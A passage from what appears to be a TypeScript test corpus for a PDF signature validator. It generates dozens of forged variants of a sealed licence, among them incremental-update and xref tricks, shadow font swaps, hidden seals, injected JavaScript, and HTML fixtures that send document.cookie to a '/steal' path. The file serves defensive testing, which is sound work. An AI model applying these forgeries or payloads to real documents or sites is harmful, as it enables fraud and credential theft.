// The differential corpus: mutation classes applied to a genuine sealed licence and to its annotated copy. Each class
// says what a forger gains; most make a viewer show something other than what was sealed, which our validator must
// then not call TOTAL-PASSED. Classes marked `named` belong to the three kinds issue 9's review used against us
// (unlisted objects behind a glued xref, generation re-listing, markup or script in an update): they must fail even
// where no viewer shows a difference.
import { createHash } from "node:crypto";
import {
  BYTE_RANGE_PLACEHOLDER,
  contentsPlaceholder,
  formatByteRange,
  locatePlaceholder,
} from "../../src/pades/placeholder.js";
import { requestTimestamp, type TsaFn } from "../../src/pki/request-timestamp.js";
import type { Genuine } from "./genuine.js";
import {
  appendUpdate,
  bytes,
  concat,
  getKey,
  objectOf,
  refsIn,
  setKey,
  streamBody,
  text,
  xrefOf,
  xrefStreamObject,
  type WrittenObject,
} from "./pdf-bytes.js";

export interface MutationClass {
  name: string;
  /** One line: what a forger gains if a validator accepts it. */
  gain: string;
  /** Issue 9's kinds of attack: such a class must fail on both copies whatever the viewers show. */
  named?: "unlisted-glued" | "generation" | "markup";
  /**
   * The generator's promise that at least one viewer shows something other than the genuine document, on these
   * copies: a forgery no viewer shows proves nothing, so the suite fails the generator when the promise breaks.
   */
  visible?: ("plain" | "annotated")[];
  make(g: Genuine, ctx: MakeContext): Uint8Array | Promise<Uint8Array>;
}

export interface MakeContext {
  /**
   * A trusted timestamp authority. Anyone can get real document timestamps from a public TSA, so a forger's update
   * may carry one: the validator then judges only what else the update does.
   */
  tsa: TsaFn;
}

const BOTH: ("plain" | "annotated")[] = ["plain", "annotated"];

// ---------------------------------------------------------------------------------------------------------------------
// Building blocks

const head = (g: Genuine, num: number) => objectOf(g.bytes, num).head;
/** The object's body exactly as stored (dictionary and stream data), for re-listing it byte for byte. */
function storedBody(g: Genuine, num: number): Uint8Array {
  const o = objectOf(g.bytes, num);
  const s = text(g.bytes);
  const bodyAt = s.indexOf("obj", o.start) + 3;
  const endobj = s.lastIndexOf("endobj", o.end);
  return g.bytes.slice(bodyAt, endobj);
}
const forgedContent = (g: Genuine, data = g.forgedContent) => streamBody("", data);
/** A harmless new object, so an update has something its section may list. */
const filler = (g: Genuine): WrittenObject => ({ num: g.trailer.size, body: "<</Producer (eLicence)>>" });
/**
 * Three consecutive harmless objects: a glued section needs several entries in one subsection for them to run
 * together (a lone entry without its EOL still parses in every viewer).
 */
const fillers = (g: Genuine, from = 0): WrittenObject[] =>
  [0, 1, 2].map((k) => ({ num: g.trailer.size + from + k, body: `<</Producer (eLicence ${k})>>` }));
const ref = (n: number) => `${n} 0 R`;

/** Page dictionary with some entries changed. */
const pageWith = (g: Genuine, changes: Record<string, string | undefined>): string =>
  Object.entries(changes).reduce((d, [k, v]) => setKey(d, k, v), head(g, g.page));

function addToAnnots(g: Genuine, annot: number): string {
  return pageWith(g, {
    Annots: `[${refsIn(getKey(head(g, g.page), "Annots"))
      .map(ref)
      .join(" ")} ${ref(annot)}]`,
  });
}

/** A form XObject drawing white paper and the forged validity date in the licence's own regular font. */
function forgedPatch(g: Genuine, w: number, h: number, size = 11): Uint8Array {
  return streamBody(
    `/Type /XObject /Subtype /Form /BBox [0 0 ${w} ${h}] /Resources <</Font <</F1 ${ref(g.regularFont)}>>>>`,
    bytes(
      `q 1 1 1 rg 0 0 ${w} ${h} re f Q BT 0 0 0 rg /F1 ${size} Tf 2 ${(h - size) / 2 + 2} Td <${g.forgedDateHex}> Tj ET\n`,
    ),
  );
}

/** A listed, unreferenced stream whose raw data is a whole `… obj … endobj`: only a reader that scans sees it. */
function hiddenInStream(num: number, header: string | Uint8Array): WrittenObject {
  return { num, body: streamBody("", concat("\n", header, "\nendobj\n"), false) };
}

/**
 * A listed stream with an indirect /Length whose data starts with `endstream endobj` and then `header` and forged
 * page content: MuPDF's repair, unable to use the indirect length, resumes lexing at that first `endstream`.
 */
function mupdfHidden(g: Genuine, header: string): WrittenObject[] {
  const holder = nextNum(g);
  const data = concat("endstream\nendobj\n", header, forgedContent(g), "\nendobj\n");
  return [
    { num: holder, body: concat(`<</Length ${holder + 1} 0 R>>\nstream\n`, data, "\nendstream") },
    { num: holder + 1, body: `${data.length}` },
  ];
}

/**
 * A listed stream whose data holds a whole forged document tree (catalog, page tree, page, content) and an xref-stream
 * dictionary naming that catalog as /Root: no `trailer` keyword, and every number new, so only a check of xref-stream
 * dictionaries (which MuPDF's and pdf.js's rebuilds read /Root from) can see it.
 */
function hiddenCatalog(g: Genuine): WrittenObject {
  const holder = nextNum(g);
  const [catalog, pages, page, content, xref] = [1, 2, 3, 4, 5].map((k) => nextNum(g, k)) as [
    number,
    number,
    number,
    number,
    number,
  ];
  const obj = (n: number, body: string | Uint8Array) => concat(`${n} 0 obj\n`, body, "\nendobj\n");
  const data = concat(
    "\n",
    obj(catalog, setKey(head(g, g.catalog), "Pages", ref(pages))),
    obj(pages, `<</Type /Pages /Kids [${ref(page)}] /Count 1>>`),
    obj(page, pageWith(g, { Parent: ref(pages), Contents: ref(content) })),
    obj(content, forgedContent(g)),
    obj(
      xref,
      `<</Type /XRef /Size ${xref + 1} /Root ${ref(catalog)} /W [1 1 1] /Index [0 0] /Length 0>>\nstream\n\nendstream`,
    ),
  );
  return { num: holder, body: streamBody("", data, false) };
}

/** A box over the printed validity date, in user space. */
const dateBox = (g: Genuine) => ({ x: g.datePosition.x - 130, y: g.datePosition.y - 4, w: 300, h: 18 });
const rect = (b: { x: number; y: number; w: number; h: number }) =>
  `[${b.x} ${b.y} ${b.x + b.w} ${b.y + b.h}]`;

/** Page content that paints white over the validity date and prints a forged one (a second content stream). */
function overlayContent(g: Genuine): Uint8Array {
  const b = dateBox(g);
  const name = [...g.fonts].find(([, n]) => n === g.regularFont)?.[0] ?? "";
  return streamBody(
    "",
    bytes(
      `q 1 1 1 rg ${b.x} ${b.y} ${b.w} ${b.h} re f Q BT 0 0 0 rg /${name} 11 Tf 1 0 0 1 ${b.x + 4} ${b.y + 4} Tm <${g.forgedDateHex}> Tj ET\n`,
    ),
  );
}

/** The page's content redefined with the forged date and number, plus whatever else an update carries. */
const redefineContent = (g: Genuine, o: Partial<WrittenObject> = {}): WrittenObject => ({
  num: g.content,
  body: forgedContent(g),
  ...o,
});

/** A new page showing the forged content, sharing the genuine page's resources and annotations. */
function forgedPage(g: Genuine, pageNum: number, contentNum: number): WrittenObject {
  return { num: pageNum, body: pageWith(g, { Contents: `[${ref(contentNum)}]` }) };
}

/** Rewrites the seal's /ByteRange in place (same width), as a forger editing the signed bytes' description. */
function rewriteByteRange(g: Genuine, change: (r: number[]) => number[]): Uint8Array {
  const out = Buffer.from(g.bytes);
  const start = out.indexOf("/ByteRange [") + "/ByteRange [".length;
  const end = out.indexOf("]", start);
  const r = out.subarray(start, end).toString("latin1").trim().split(/\s+/u).map(Number);
  const next = change(r).join(" ");
  if (next.length > end - start) throw new Error("the new ByteRange does not fit");
  out.write(next.padEnd(end - start, " "), start, "latin1");
  return new Uint8Array(out);
}

/** The seal's /Contents hex: where it starts and where its zero padding begins. */
function contentsPadding(g: Genuine): { from: number; to: number } {
  const s = text(g.bytes);
  const at = s.indexOf("<", s.indexOf("/Contents", s.indexOf("/ByteRange [")));
  const close = s.indexOf(">", at);
  const hex = s.slice(at + 1, close);
  const zeros = /0*$/u.exec(hex)?.[0].length ?? 0;
  // Keep the DER's last byte intact: start on an even position after it.
  const from = at + 1 + hex.length - zeros + ((hex.length - zeros) % 2) + 16;
  return { from, to: close };
}

/** A forged content stream as ASCII (hex-filtered), so it can sit in /Contents' padding. */
function asciiObject(g: Genuine, num: number): string {
  const hexData = Buffer.from(streamBody("", g.forgedContent)).toString("latin1");
  const raw = /stream\n([\s\S]*)\nendstream$/u.exec(hexData)?.[1] ?? "";
  const hex = `${Buffer.from(raw, "latin1").toString("hex")}>`;
  return `\n${num} 0 obj\n<</Filter [/ASCIIHexDecode /FlateDecode] /Length ${hex.length}>>\nstream\n${hex}\nendstream\nendobj\n`;
}

function overwrite(pdf: Uint8Array, at: number, s: string, limit: number): Uint8Array {
  if (at + s.length > limit) throw new Error(`the payload (${s.length} bytes) does not fit`);
  const out = Buffer.from(pdf);
  out.write(s, at, "latin1");
  return new Uint8Array(out);
}

const nextNum = (g: Genuine, k = 0) => g.trailer.size + k;

/** An object stream holding `objects` (uncompressed index, compressed as a whole). */
function objectStream(objects: { num: number; body: string }[]): Uint8Array {
  let offset = 0;
  const index: string[] = [];
  const bodies: string[] = [];
  for (const o of objects) {
    index.push(`${o.num} ${offset}`);
    bodies.push(o.body);
    offset += o.body.length + 1;
  }
  const first = index.join(" ") + "\n";
  return streamBody(
    `/Type /ObjStm /N ${objects.length} /First ${first.length}`,
    bytes(first + bodies.join("\n") + "\n"),
  );
}

/**
 * An update adding a real document timestamp (a token from `ctx.tsa` over exactly its ByteRange), whose widget has
 * the forged date as its appearance and the given /Rect. Whether that widget is drawn is all that differs between
 * the classes built on it.
 */
async function docTimestampUpdate(
  g: Genuine,
  ctx: MakeContext,
  o: {
    rect: (free: number) => string;
    extra?: (free: number) => WrittenObject[];
    flags?: number;
    /** More widget entries, written as is. */
    widget?: string;
    /** No appearance at all (an invisible timestamp as a B-LTA step writes it), instead of the forged patch. */
    noAppearance?: boolean;
  },
): Promise<Uint8Array> {
  const [field, sig, ap, free] = [nextNum(g), nextNum(g, 1), nextNum(g, 2), nextNum(g, 3)];
  const b = dateBox(g);
  const form = head(g, g.acroForm);
  const prepared = appendUpdate(g.bytes, [
    {
      num: sig,
      body: timestampSigDict("/Type /DocTimeStamp"),
    },
    ...(o.noAppearance ? [] : [{ num: ap, body: forgedPatch(g, b.w, b.h) }]),
    {
      num: field,
      body: `<</Type /Annot /Subtype /Widget /FT /Sig /T (DocTimeStamp1) /V ${ref(sig)} /Rect ${o.rect(free)} /F ${o.flags ?? 4} /P ${ref(g.page)}${o.noAppearance ? "" : ` /AP <</N ${ref(ap)}>>`}${o.widget ?? ""}>>`,
    },
    ...(o.extra ? o.extra(free) : []),
    {
      num: g.acroForm,
      body: setKey(form, "Fields", `[${refsIn(getKey(form, "Fields")).map(ref).join(" ")} ${ref(field)}]`),
    },
    { num: g.page, body: addToAnnots(g, field) },
  ]);
  return stampPlaceholder(prepared, ctx);
}

/** Fills the one unfilled signature placeholder with a timestamp token over exactly its ByteRange. */
async function stampPlaceholder(prepared: Uint8Array, ctx: MakeContext): Promise<Uint8Array> {
  const loc = locatePlaceholder(prepared);
  const out = Buffer.from(prepared);
  out.write(
    formatByteRange([0, loc.contentsStart, loc.contentsEnd, out.length - loc.contentsEnd]),
    loc.byteRangeStart,
    "latin1",
  );
  const hash = createHash("sha256")
    .update(out.subarray(0, loc.contentsStart))
    .update(out.subarray(loc.contentsEnd))
    .digest();
  const token = await requestTimestamp(new Uint8Array(hash), { local: ctx.tsa });
  out.write(Buffer.from(token).toString("hex"), loc.contentsStart + 1, "latin1");
  return new Uint8Array(out);
}

const timestampSigDict = (type: string) =>
  `<<${type} /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161\n/ByteRange ${BYTE_RANGE_PLACEHOLDER}\n/Contents ${contentsPlaceholder(8192)}\n>>`;

/**
 * The prepared note field of a plain copy "signed" with a real timestamp token instead of the platform's annotation
 * seal: /V, /AP and /F are the keys a prepared field may gain, the token is trusted, only its meaning is wrong.
 */
async function noteFilledWithTimestamp(g: Genuine, ctx: MakeContext, type: string): Promise<Uint8Array> {
  const [sig, ap] = [nextNum(g), nextNum(g, 1)];
  const prepared = appendUpdate(g.bytes, [
    { num: sig, body: timestampSigDict(type) },
    { num: ap, body: forgedPatch(g, 538, 20, 9) },
    {
      num: g.noteWidget,
      body: setKey(
        setKey(setKey(head(g, g.noteWidget), "V", ref(sig)), "AP", `<</N ${ref(ap)}>>`),
        "F",
        "132",
      ),
    },
  ]);
  return stampPlaceholder(prepared, ctx);
}

// ---------------------------------------------------------------------------------------------------------------------
// The classes

export const CLASSES: MutationClass[] = [
  // Issue 9's first finding and its relatives: objects the update's own section does not list.
  {
    name: "unlisted-glued-xref",
    gain: "viewers reject the EOL-less xref, rebuild it by scanning and show a forged date and number",
    named: "unlisted-glued",
    visible: BOTH,
    make: (g) =>
      appendUpdate(g.bytes, [redefineContent(g, { listed: false }), ...fillers(g)], { xref: "glued" }),
  },
  {
    name: "unlisted-glued-xref-page",
    gain: "a forged page object and content hidden from the section, shown by rebuilding viewers",
    visible: BOTH,
    make: (g) =>
      appendUpdate(
        g.bytes,
        [
          { num: nextNum(g, 1), body: forgedContent(g), listed: false },
          { ...forgedPage(g, g.page, nextNum(g, 1)), listed: false },
          ...fillers(g, 2),
        ],
        { xref: "glued" },
      ),
  },
  {
    name: "unlisted-xref-stream-corrupt",
    gain: "an xref stream whose data does not inflate: viewers drop it, rebuild by scanning and show the unlisted forgery",
    visible: BOTH,
    make: (g) => {
      const out = Buffer.from(
        appendUpdate(g.bytes, [redefineContent(g, { listed: false }), ...fillers(g)], { xref: "stream" }),
      );
      // Overwrite the zlib header of the last stream (the xref stream): same length, so every offset stays right.
      const at = out.lastIndexOf("stream\n", out.lastIndexOf("endstream") - 1) + 7;
      out.write("\xff\xff\xff\xff", at, "latin1");
      return new Uint8Array(out);
    },
  },
  {
    name: "unlisted-correct-xref",
    gain: "a forged content body shipped unlisted; any scanning or repairing reader shows it",
    make: (g) => appendUpdate(g.bytes, [redefineContent(g, { listed: false }), filler(g)]),
  },
  {
    name: "object-after-eof",
    gain: "a forged content object after the last %%EOF, without any section: repairing readers pick it up",
    make: (g) => concat(g.bytes, `${g.content} 0 obj\n`, forgedContent(g), "\nendobj\n"),
  },
  {
    name: "junk-after-eof",
    gain: "arbitrary bytes (a smuggled payload) after %%EOF outside any revision",
    make: (g) => concat(g.bytes, "\x00\x01binary payload \xff\xfe".repeat(64)),
  },
  {
    name: "wrong-xref-offset",
    gain: "the forged content's entry points 7 bytes off: viewers repair and show it, strict parsers may not",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [redefineContent(g, { claimedOffset: (o) => o + 7 })]),
  },
  {
    name: "wrong-startxref",
    gain: "startxref points nowhere: viewers rebuild the xref and show the last (forged) definitions",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [redefineContent(g)], { startxref: (x) => x + 3 }),
  },
  {
    name: "startxref-points-back",
    gain: "the file's startxref names the signed table, so the forged update looks absent to some readers only",
    make: (g) => appendUpdate(g.bytes, [redefineContent(g)], { startxref: () => g.trailer.startxref }),
  },
  {
    name: "prev-self-loop",
    gain: "a /Prev cycle: readers that give up on the chain rebuild it and show the forged content",
    visible: BOTH,
    make: (g) => {
      // The section will start where the objects end; /Prev is written before that is known, so compute it.
      const probe = appendUpdate(g.bytes, [redefineContent(g)], { prev: 0 });
      const at = text(probe).lastIndexOf("xref\n");
      return appendUpdate(g.bytes, [redefineContent(g)], { prev: at });
    },
  },
  {
    name: "prev-missing",
    gain: "an update without /Prev: the forged section pretends to be the whole file",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [redefineContent(g)], { prev: null }),
  },
  {
    name: "prev-off-by-some",
    gain: "/Prev points beside the signed table: readers repair and take the last definitions",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [redefineContent(g)], { prev: g.trailer.startxref + 5 }),
  },
  {
    name: "second-trailer",
    gain: "a second trailer naming a forged catalog: readers disagree on which trailer is the document",
    make: (g) => {
      const [cat, pages, page, content] = [0, 1, 2, 3].map((k) => nextNum(g, k)) as [
        number,
        number,
        number,
        number,
      ];
      return appendUpdate(
        g.bytes,
        [
          { num: cat, body: setKey(head(g, g.catalog), "Pages", ref(pages)) },
          { num: pages, body: `<</Type /Pages /Kids [${ref(page)}] /Count 1>>` },
          { num: page, body: setKey(pageWith(g, { Contents: ref(content) }), "Parent", ref(pages)) },
          { num: content, body: forgedContent(g) },
        ],
        {
          beforeStartxref: `trailer\n<</Size ${content + 1} /Root ${ref(cat)} /Prev ${g.trailer.startxref}>>\n`,
        },
      );
    },
  },
  {
    name: "xref-duplicate-subsection",
    gain: "the update's section lists the content twice (forged, then genuine): readers pick different ones",
    visible: BOTH,
    make: (g) => {
      const original = xrefOf(g.bytes).get(g.content);
      return appendUpdate(g.bytes, [redefineContent(g)], {
        entries: [{ num: g.content, offset: original?.offset ?? 0, generation: 0, type: "n" }],
      });
    },
  },
  {
    name: "duplicate-in-update",
    gain: "one update defines the content twice: the listed genuine copy for strict readers, the forged for scanners",
    make: (g) =>
      appendUpdate(g.bytes, [
        { num: g.content, body: storedBody(g, g.content) },
        redefineContent(g, { listed: false }),
      ]),
  },
  {
    name: "duplicate-in-update-glued",
    gain: "as duplicate-in-update, with a glued section so every viewer rebuilds and shows the forged copy",
    visible: BOTH,
    make: (g) =>
      appendUpdate(
        g.bytes,
        [
          { num: g.content, body: storedBody(g, g.content) },
          redefineContent(g, { listed: false }),
          ...fillers(g),
        ],
        { xref: "glued" },
      ),
  },
  {
    name: "free-entry-seal-appearance",
    gain: "the seal's appearance is marked free: the seal vanishes from the page",
    visible: BOTH,
    make: (g) =>
      appendUpdate(g.bytes, [filler(g)], {
        entries: [{ num: g.sealAppearance, offset: 0, generation: 1, type: "f" }],
      }),
  },
  {
    name: "free-entry-note-widget",
    gain: "the note's widget is marked free: an annotated copy loses its use restriction",
    visible: ["annotated"],
    make: (g) =>
      appendUpdate(g.bytes, [filler(g)], {
        entries: [{ num: g.noteWidget, offset: 0, generation: 1, type: "f" }],
      }),
  },
  {
    name: "free-and-reuse-gen1",
    gain: "the content freed and reused as generation 1 with forged bytes: `N 0 R` resolves to nothing or to the forgery",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [redefineContent(g, { generation: 1 })]),
  },

  // Issue 9's second finding: an existing object re-listed with generation 1 and identical bytes.
  ...(
    [
      ["page", (g: Genuine) => g.page],
      ["content", (g: Genuine) => g.content],
      ["font", (g: Genuine) => g.regularFont],
      ["seal-appearance", (g: Genuine) => g.sealAppearance],
    ] as const
  ).map(([what, pick]): MutationClass => ({
    name: `gen1-relist-${what}`,
    gain: `the ${what} re-listed as generation 1 with identical bytes: \`N 0 R\` resolves to nothing, the ${what} disappears in poppler`,
    named: "generation",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [{ num: pick(g), generation: 1, body: storedBody(g, pick(g)) }]),
  })),

  // Issue 9's third finding: markup and script inside an update.
  {
    name: "html-js-block-in-update",
    gain: "an HTML/JS polyglot carried inside a 'harmless' update (served as text/html it runs script)",
    named: "markup",
    make: (g) =>
      appendUpdate(g.bytes, [filler(g)], {
        between:
          "<html><body><h1>有效期至2099年</h1><script>document.title='forged';fetch('/steal?'+document.cookie)</script></body></html>\n",
      }),
  },
  {
    name: "html-in-unreferenced-stream",
    gain: "an HTML/JS payload as an unreferenced stream object in an update",
    make: (g) =>
      appendUpdate(g.bytes, [
        {
          num: g.trailer.size,
          body: streamBody(
            "/Type /EmbeddedFile /Subtype /text#2Fhtml",
            bytes("<script>alert('forged')</script>"),
            false,
          ),
        },
      ]),
  },
  {
    name: "dss-stream-html",
    gain: "an HTML/JS polyglot as a 'certificate' stream of a DSS update, the kind of update PAdES permits",
    named: "markup",
    make: (g) => {
      const [dss, cert] = [nextNum(g), nextNum(g, 1)];
      return appendUpdate(g.bytes, [
        {
          num: cert,
          body: streamBody(
            "",
            bytes("<html><script>fetch('/steal?'+document.cookie)</script></html>"),
            false,
          ),
        },
        { num: dss, body: `<</Certs [${ref(cert)}] /CRLs [] /OCSPs []>>` },
        { num: g.catalog, body: setKey(head(g, g.catalog), "DSS", ref(dss)) },
      ]);
    },
  },
  {
    name: "dss-stream-garbage-compressed",
    gain: "a DSS 'certificate' that is no certificate (compressed junk): validation data that validates nothing",
    make: (g) => {
      const [dss, cert] = [nextNum(g), nextNum(g, 1)];
      return appendUpdate(g.bytes, [
        { num: cert, body: streamBody("", bytes("<html><script>alert(1)</script></html>".repeat(4))) },
        { num: dss, body: `<</Certs [${ref(cert)}] /CRLs [] /OCSPs []>>` },
        { num: g.catalog, body: setKey(head(g, g.catalog), "DSS", ref(dss)) },
      ]);
    },
  },
  {
    name: "catalog-openaction-js",
    gain: "JavaScript run on opening (may rewrite fields or phone home)",
    make: (g) =>
      appendUpdate(g.bytes, [
        {
          num: g.catalog,
          body: setKey(head(g, g.catalog), "OpenAction", "<</S /JavaScript /JS (app.alert\\('forged'\\))>>"),
        },
      ]),
  },
  {
    name: "catalog-names-javascript",
    gain: "document-level JavaScript added to the name tree",
    make: (g) =>
      appendUpdate(g.bytes, [
        {
          num: g.catalog,
          body: setKey(
            head(g, g.catalog),
            "Names",
            "<</JavaScript <</Names [(x) <</S /JavaScript /JS (this.print\\(\\))>>]>>>>",
          ),
        },
      ]),
  },

  // Content redefinitions: the classic incremental saving attack, in every wrapping.
  {
    name: "content-redefined-date",
    gain: "the validity date extended to 2099",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [{ num: g.content, body: forgedContent(g, g.forgedDateOnly) }]),
  },
  {
    name: "content-redefined-number",
    gain: "another licence number printed",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [{ num: g.content, body: forgedContent(g, g.forgedNumberOnly) }]),
  },
  {
    name: "content-added-overlay",
    gain: "a second content stream whites out the date and prints a forged one",
    visible: BOTH,
    make: (g) => {
      const n = nextNum(g);
      return appendUpdate(g.bytes, [
        { num: n, body: overlayContent(g) },
        { num: g.page, body: pageWith(g, { Contents: `[${ref(g.content)} ${ref(n)}]` }) },
      ]);
    },
  },
  {
    name: "xref-stream-update",
    gain: "the forged content listed by a cross-reference stream after classic tables",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [redefineContent(g)], { xref: "stream" }),
  },
  {
    name: "object-stream-redefines-page",
    gain: "the page redefined inside an object stream (pointing at forged content), listed as compressed",
    visible: BOTH,
    make: (g) => {
      const [content, objStm] = [nextNum(g), nextNum(g, 1)];
      const base = appendUpdate(g.bytes, [], { xref: "none" });
      const contentAt = base.length;
      const withContent = concat(base, `${content} 0 obj\n`, forgedContent(g), "\nendobj\n");
      const objStmAt = withContent.length;
      const page = pageWith(g, { Contents: `[${ref(content)}]` });
      const withStm = concat(
        withContent,
        `${objStm} 0 obj\n`,
        objectStream([{ num: g.page, body: page }]),
        "\nendobj\n",
      );
      const xrefAt = withStm.length;
      const self = objStm + 1;
      const xref = xrefStreamObject(
        self,
        [
          { num: content, type: 1, offset: contentAt, generation: 0 },
          { num: objStm, type: 1, offset: objStmAt, generation: 0 },
          { num: g.page, type: 2, offset: objStm, generation: 0 },
          { num: self, type: 1, offset: xrefAt, generation: 0 },
        ],
        `/Size ${self + 1} /Root ${ref(g.catalog)}${g.trailer.info ? ` /Info ${ref(g.trailer.info)}` : ""}${g.trailer.id ? ` /ID ${g.trailer.id}` : ""} /Prev ${g.trailer.startxref}`,
      );
      return concat(withStm, xref, `startxref\n${xrefAt}\n%%EOF\n`);
    },
  },
  {
    name: "hybrid-xrefstm",
    gain: "a classic section listing a filler, its trailer's /XRefStm listing forged content (hybrid-file readers use it)",
    visible: BOTH,
    make: (g) => {
      const stmNum = nextNum(g, 1);
      const body = appendUpdate(g.bytes, [], { xref: "none" });
      const contentAt = body.length;
      const withContent = concat(body, `${g.content} 0 obj\n`, forgedContent(g), "\nendobj\n");
      const stmAt = withContent.length;
      const stm = xrefStreamObject(
        stmNum,
        [
          { num: g.content, type: 1, offset: contentAt, generation: 0 },
          { num: stmNum, type: 1, offset: stmAt, generation: 0 },
        ],
        `/Size ${stmNum + 1}`,
      );
      return appendUpdate(concat(withContent, stm), [filler(g)], {
        trailer: g.trailer,
        trailerExtra: ` /XRefStm ${stmAt}`,
      });
    },
  },
  {
    name: "page-resources-fonts-swapped",
    gain: "the page's font names point at each other's fonts: the text becomes other glyphs",
    visible: BOTH,
    make: (g) => {
      const entries = [...g.fonts].map(
        ([n, num]) =>
          `/${n} ${ref(num === g.regularFont ? g.boldFont : num === g.boldFont ? g.regularFont : num)}`,
      );
      const res = setKey(getKey(head(g, g.page), "Resources") ?? "<<>>", "Font", `<<${entries.join(" ")}>>`);
      return appendUpdate(g.bytes, [{ num: g.page, body: pageWith(g, { Resources: res }) }]);
    },
  },
  {
    name: "page-rotated",
    gain: "the page shown upside down (a nuisance, and proof that page attributes are open)",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [{ num: g.page, body: pageWith(g, { Rotate: "180" }) }]),
  },
  {
    name: "page-cropped",
    gain: "a /CropBox that cuts off the lower half (validity, issuer, seal) of the licence",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [{ num: g.page, body: pageWith(g, { CropBox: "[0 421 595 842]" }) }]),
  },
  {
    name: "page-annots-removed",
    gain: "the page's /Annots dropped: the seal (and an annotated copy's note) disappear",
    visible: BOTH,
    make: (g) => appendUpdate(g.bytes, [{ num: g.page, body: pageWith(g, { Annots: undefined }) }]),
  },
  {
    name: "pages-kids-replaced",
    gain: "the page tree points at a new page with forged content",
    visible: BOTH,
    make: (g) => {
      const [page, content] = [nextNum(g), nextNum(g, 1)];
      return appendUpdate(g.bytes, [
        { num: content, body: forgedContent(g) },
        forgedPage(g, page, content),
        { num: g.pages, body: setKey(head(g, g.pages), "Kids", `[${ref(page)}]`) },
      ]);
    },
  },
  {
    name: "page-added",
    gain: "a second page (a forged 'continuation' or supplement) appended to the sealed licence",
    visible: BOTH,
    make: (g) => {
      const [page, content] = [nextNum(g), nextNum(g, 1)];
      return appendUpdate(g.bytes, [
        { num: content, body: overlayContent(g) },
        { num: page, body: pageWith(g, { Contents: `[${ref(content)}]`, Annots: undefined }) },
        {
          num: g.pages,
          body: setKey(setKey(head(g, g.pages), "Kids", `[${ref(g.page)} ${ref(page)}]`), "Count", "2"),
        },
      ]);
    },
  },
  {
    name: "root-replaced",
    gain: "the trailer names a new catalog whose page tree shows forged content",
    visible: BOTH,
    make: (g) => {
      const [cat, pages, page, content] = [0, 1, 2, 3].map((k) => nextNum(g, k)) as [
        number,
        number,
        number,
        number,
      ];
      const t = appendUpdate(g.bytes, [
        { num: cat, body: setKey(head(g, g.catalog), "Pages", ref(pages)) },
        { num: pages, body: `<</Type /Pages /Kids [${ref(page)}] /Count 1>>` },
        { num: page, body: setKey(pageWith(g, { Contents: ref(content) }), "Parent", ref(pages)) },
        { num: content, body: forgedContent(g) },
      ]);
      // Same length, so every offset stays right.
      const s = text(t);
      const at = s.lastIndexOf(`/Root ${ref(g.catalog)}`);
      return overwrite(t, at, `/Root ${ref(cat)}`.padEnd(`/Root ${ref(g.catalog)}`.length, " "), t.length);
    },
  },
  {
    name: "encrypt-added",
    gain: "an /Encrypt dictionary appears: readers decrypt signed plaintext into garbage or refuse the file",
    visible: BOTH,
    make: (g) =>
      appendUpdate(
        g.bytes,
        [
          {
            num: g.trailer.size,
            body: `<</Filter /Standard /V 1 /R 2 /O <${"28BF4E5E".repeat(8)}> /U <${"4E5E758A".repeat(8)}> /P -4>>`,
          },
        ],
        {
          trailerExtra: ` /Encrypt ${ref(g.trailer.size)}`,
        },
      ),
  },

  // Fonts and graphics states: the shadow "replace" family, changing how signed text looks without touching it.
  {
    name: "shadow-replace-tounicode",
    gain: "the regular font's ToUnicode remapped: copied or extracted text says 9 where the page shows 2",
    visible: BOTH,
    make: (g) => {
      const cmap = text(objectOf(g.bytes, g.toUnicode).data ?? new Uint8Array());
      const swapped = cmap
        .replace(/<0032>/gu, "<XXXX>")
        .replace(/<0039>/gu, "<0032>")
        .replace(/<XXXX>/gu, "<0039>");
      return appendUpdate(g.bytes, [{ num: g.toUnicode, body: streamBody("", bytes(swapped)) }]);
    },
  },
  {
    name: "shadow-replace-glyph-map",
    gain: "the regular font's CIDToGIDMap swaps the glyphs of 2 and 9: the date shows another year",
    visible: BOTH,
    make: (g) => {
      const cmapText = text(objectOf(g.bytes, g.toUnicode).data ?? new Uint8Array());
      const codeOf = (u: string) =>
        Number.parseInt(new RegExp(`<([0-9A-Fa-f]{4})>\\s*<${u}>`, "u").exec(cmapText)?.[1] ?? "0", 16);
      const [two, nine] = [codeOf("0032"), codeOf("0039")];
      const count = 256 * 4;
      const map = new Uint8Array(count * 2);
      for (let cid = 0; cid < count; cid++) {
        const gid = cid === two ? nine : cid === nine ? two : cid;
        map[2 * cid] = gid >> 8;
        map[2 * cid + 1] = gid & 0xff;
      }
      const mapNum = nextNum(g);
      return appendUpdate(g.bytes, [
        { num: mapNum, body: streamBody("", map) },
        { num: g.descendant, body: setKey(head(g, g.descendant), "CIDToGIDMap", ref(mapNum)) },
      ]);
    },
  },
  {
    name: "shadow-hide-seal-gstate",
    gain: "the seal's graphics state redefined fully transparent: the seal disappears",
    visible: BOTH,
    make: (g) =>
      appendUpdate(g.bytes, [{ num: g.sealGState, body: "<</Type /ExtGState /BM /Multiply /CA 0 /ca 0>>" }]),
  },
  // Red team 4, optional content: probes that held (catalog and widget changes are named by the revision diff).
  {
    name: "ocg-off-hides-seal-widget",
    gain: "an optional-content group switched off in /OCProperties /D /OFF and put on the seal's widget: viewers hide the seal",
    visible: BOTH,
    make: (g) => {
      const ocg = nextNum(g);
      return appendUpdate(g.bytes, [
        { num: ocg, body: "<</Type /OCG /Name (Seal)>>" },
        {
          num: g.catalog,
          body: setKey(
            head(g, g.catalog),
            "OCProperties",
            `<</OCGs [${ref(ocg)}] /D <</OFF [${ref(ocg)}]>>>>`,
          ),
        },
        { num: g.sealWidget, body: setKey(head(g, g.sealWidget), "OC", ref(ocg)) },
      ]);
    },
  },
  {
    name: "ocg-off-catalog-only",
    gain: "/OCProperties added beside a document timestamp, ready to switch off content marked /OC in a later step",
    make: (g, ctx) =>
      docTimestampUpdate(g, ctx, {
        rect: () => "[0 0 0 0]",
        noAppearance: true,
        extra: (free) => [
